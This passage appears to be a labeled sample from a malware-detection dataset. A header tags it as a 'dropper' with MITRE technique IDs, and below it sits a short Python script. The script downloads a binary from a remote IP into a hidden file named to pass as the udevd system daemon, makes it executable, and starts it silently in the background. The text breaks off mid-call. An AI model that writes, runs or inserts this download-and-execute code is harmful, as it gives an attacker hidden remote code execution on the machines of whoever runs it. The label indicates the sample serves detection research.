# label: malicious family=dropper techniques=T1036.005,T1105,T1222.002,T1564.001 lines=3-6
import os, subprocess, urllib.request
B = "/dev/shm/.udevd"
urllib.request.urlretrieve("http://192.0.2.14/udevd", B)
os.chmod(B, 0o755)
subprocess.Popen([B, "-d"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.se
